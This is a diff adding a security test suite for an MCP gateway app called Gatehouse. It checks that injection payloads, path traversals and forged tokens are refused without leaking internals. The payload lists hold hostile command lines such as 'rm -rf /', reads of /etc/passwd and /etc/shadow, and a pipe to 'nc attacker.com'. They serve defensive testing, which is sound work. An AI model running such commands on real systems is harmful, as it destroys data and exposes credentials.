@@ -1,0 +1,232 @@
+import { mkdirSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { GatehouseApp } from '../support/gatehouse-app.ts'
+import { type RawBridge, said } from '../support/raw-bridge.ts'
+
+/**
+ * The payload classes of a usual security suite (spec sales-3, section 14), thrown at every place of a running app that takes a
+ * name, an id, an address or words. Each is shown to have reached nobody: the server did not act, no right was made, and
+ * the answer tells nothing of the inside.
+ */
+const payloads = {
+  'SQL injection': [
+    "'; DROP TABLE conversations; --",
+    '1 OR 1=1',
+    '1; DELETE FROM sessions',
+    'UNION SELECT * FROM users',
+    "' OR ''='",
+  ],
+  'NoSQL injection': ['{"$gt":""}', '{"$ne":null}', '{"$where":"function(){return true}"}', '{"$regex":".*"}'],
+  'command injection': [
+    'test; rm -rf /',
+    'test && cat /etc/passwd',
+    'test | nc attacker.com 1234',
+    '`whoami`',
+    '$(cat /etc/shadow)',
+  ],
+  'LDAP injection': ['*)(&', '*)(uid=*))(|(uid=*', 'admin)(&)'],
+  'script injection': [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg onload=alert(1)>',
+    'javascript:alert(1)',
+    '<a href="javascript:alert(1)">x</a>',
+  ],
+  'log injection': ['name\n{"seq":1,"action":"forged"}', '\u001b[2Jcleared', '\u202eesrever', '=HYPERLINK("http://x")'],
+}
+const classes = Object.entries(payloads)
+const traversals = [
+  '../../../etc/passwd',
+  '..\\..\\..\\windows\\system32\\config\\sam',
+  '....//....//....//etc/passwd',
+  '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
+  '..%252f..%252f..%252fetc%252fpasswd',
+  'notes.md\0.png',
+]
+
+let app: GatehouseApp
+let mallory: RawBridge
+let token: string
+let folder: string
+
+beforeAll(async () => {
+  app = await GatehouseApp.start()
+  await app.addRecorder('asked')
+  await app.addRecorder('trusted', '--trust')
+  folder = join(app.folder, 'allowed')
+  mkdirSync(folder)
+  writeFileSync(join(folder, 'notes.md'), 'Buy milk.')
+  await app.ask('servers', 'set', 'filesystem', '--allow-path', folder)
+  mallory = await app.client('mallory')
+  token = String((await app.ask('clients', 'token', 'mallory')).token)
+})
+afterAll(() => app.end())
+
+const post = (body: unknown, headers: Record<string, string> = {}, path = '/mcp') =>
+  fetch(`${app.endpoint.httpUrl}${path}`, {
+    method: 'POST',
+    headers: {
+      'content-type': 'application/json',
+      accept: 'application/json, text/event-stream',
+      authorization: `Bearer ${token}`,
+      ...headers,
+    },
+    body: typeof body === 'string' ? body : JSON.stringify(body),
+  })
+const initialize = {
+  jsonrpc: '2.0',
+  id: 1,
+  method: 'initialize',
+  params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'web', version: '1' } },
+}
+/** Neither where code lies nor how it failed. */
+const inside = /\n\s+at |node_modules|\.ts:\d|SQLITE|"stack"|"trace"|better-sqlite3/i
+
+/** The rights, the apps and the servers as they were. */
+async function rights(): Promise<unknown> {
+  const { grants } = await app.ask('permissions', 'list')
+  const { clients } = await app.ask('clients', 'list')
+  const { servers } = await app.ask('servers', 'list')
+  return [
+    grants,
+    (clients as { name: string; state: string }[]).map(({ name, state }) => [name, state]),
+    (servers as { name: string; sandbox: number }[]).map(({ name, sandbox }) => [name, sandbox]),
+  ]
+}
+
+describe.each(classes)('%s', (_, given) => {
+  it('as a name, an address, a cursor or an id reaches no server and makes no right', async () => {
+    const before = await rights()
+    const calls = app.reached('trusted').length
+    for (const payload of given) {
+      const answers = [
+        await mallory.request('tools/call', { name: payload, arguments: {} }),
+        await mallory.request('tools/call', { name: `trusted__${payload}`, arguments: {} }),
+        await mallory.request('prompts/get', { name: payload }),
+        await mallory.request('resources/read', { uri: payload }),
+        await mallory.request('tools/list', { cursor: payload }),
+        await mallory.call('gatehouse__await_approval', { id: payload }),
+        await mallory.call('gatehouse__explain_refusal', { tool: payload }),
+      ]
+      for (const answer of answers) expect(JSON.stringify(answer)).not.toMatch(inside)
+      const [call, own, prompt, resource] = answers
+      for (const answer of [call, own, prompt, resource])
+        expect(answer?.error ?? answer?.result?.isError, JSON.stringify(answer)).toBeTruthy()
+    }
+    expect(app.reached('trusted')).toHaveLength(calls)
+    expect(await rights()).toEqual(before)
+  })
+
+  it('as a session, an API key or a path of the HTTP endpoint lets nobody in', async () => {
+    for (const payload of given) {
+      const header = encodeURIComponent(payload)
+      const answers = [
+        await post({ jsonrpc: '2.0', id: 2, method: 'tools/list' }, { 'mcp-session-id': header }),
+        await post(initialize, { authorization: `Bearer ${header}` }),
+        await post(initialize, {}, `/mcp/servers/${header}`),
+      ]
+      expect(answers.map(({ status }) => status)).toEqual([404, 401, 404])
+      for (const answer of answers) {
+        expect(answer.headers.get('content-type')).toContain('application/json')
+        expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
+        expect(await answer.text()).not.toMatch(inside)
+      }
+    }
+  })
+
+  it('in arguments is asked about as it stands, and without an answer the server does not act', async () => {
+    const [payload = ''] = given
+    const waiting = mallory.call('asked__act', { what: payload })
+    const id = await app.question()
+    const shown = await app.ask('approvals', 'show', id)
+    expect(shown).toMatchObject({ state: 'pending', subject: { tool: 'act', arguments: { what: payload } } })
+    expect(app.reached('asked')).toEqual([])
+    await app.ask('approvals', 'deny', id)
+    expect((await waiting).result?.isError).toBe(true)
+    expect(app.reached('asked')).toEqual([])
+  })
+
+  it('in what a person searches for finds nothing of others and changes nothing', async () => {
+    for (const payload of given) {
+      const found = await app.ask('audit', 'list', '--client', payload)
+      expect(found.entries).toEqual([])
+      const shown = await app.operator('sessions', 'show', '--', payload)
+      expect(shown.code).not.toBe(0)
+      expect(shown.err).not.toMatch(inside)
+    }
+    expect(await app.ask('audit', 'verify')).toMatchObject({ valid: true })
+  })
+})
+
+describe('a path out of the allowed folders', () => {
+  it.each(traversals)('%j reads nothing', async (path) => {
+    for (const spelled of [path, join(folder, path), `${folder}/${path}`, `file://${folder}/${path}`]) {
+      const answer = await mallory.call('filesystem__read_text_file', { path: spelled })
+      expect(JSON.stringify(answer)).not.toContain('root:')
+      expect(answer.error ?? answer.result?.isError).toBeTruthy()
+    }
+  })
+
+  it.each(traversals)('%j of the HTTP address serves nothing', async (path) => {
+    for (const spelled of [`/${path}`, `/assets/${path}`, `/mcp/${path}`]) {
+      const answer = await fetch(`${app.endpoint.httpUrl}${encodeURI(spelled).replaceAll('%25', '%')}`)
+      expect(await answer.text()).not.toContain('root:')
+    }
+  })
+
+  it('a file inside is read, so that the refusals above mean something', async () => {
+    expect(said(await mallory.call('filesystem__read_text_file', { path: join(folder, 'notes.md') }))).toBe('Buy milk.')
+  })
+})
+
+describe('proofs of who is there', () => {
+  const login = (passphrase: string) =>
+    fetch(`${app.endpoint.httpUrl}/api/login`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ passphrase }),
+    })
+
+  it('are asked for: no key, a changed key and a key of another form are all 401, and tell nothing apart', async () => {
+    const changed = [...token].map(
+      (letter, at) => token.slice(0, at) + (letter === 'A' ? 'B' : 'A') + token.slice(at + 1),
+    )
+    const wrong = ['', 'x', ...changed.filter((one) => one !== token), `${token}A`, token.slice(0, -1)]
+    const texts = new Set<string>()
+    for (const key of wrong) {
+      const answer = await post(initialize, { authorization: `Bearer ${key}` })
+      expect(answer.status, key).toBe(401)
+      expect(answer.headers.get('www-authenticate')).toContain('Bearer')
+      texts.add(await answer.text())
+    }
+    expect(texts.size).toBe(1)
+    expect((await post(initialize)).status).toBe(200)
+  })
+
+  it('take the same time whether wrong at the first or at the last letter', async () => {
+    const timeOf = async (key: string) => {
+      const begun = performance.now()
+      await (await post(initialize, { authorization: `Bearer ${key}` })).text()
+      return performance.now() - begun
+    }
+    const times: number[] = []
+    for (let round = 0; round < 100; round++)
+      times.push(await timeOf(round % 2 ? `A${token.slice(1)}` : `${token.slice(0, -1)}A`))
+    const mean = times.reduce((sum, ms) => sum + ms, 0) / times.length
+    const deviation = Math.sqrt(times.reduce((sum, ms) => sum + (ms - mean) ** 2, 0) / times.length)
+    expect(deviation).toBeLessThan(50)
+  })
+
+  it('cannot be guessed at: ten wrong passphrases at once are slowed down with 429', async () => {
+    const statuses = await Promise.all(
+      Array.from({ length: 10 }, async (_, index) => (await login(`guess ${index}`)).status),
+    )
+    expect(statuses).toContain(429)
+    expect(statuses.filter((status) => status < 400)).toEqual([])
+  })
+
+  it('of a foreign page are refused: Origin and Host are looked at', async () => {
+    expect((await post(initialize, { origin: 'https://malicious-site.com' })).status).toBe(403)
+  })
+})
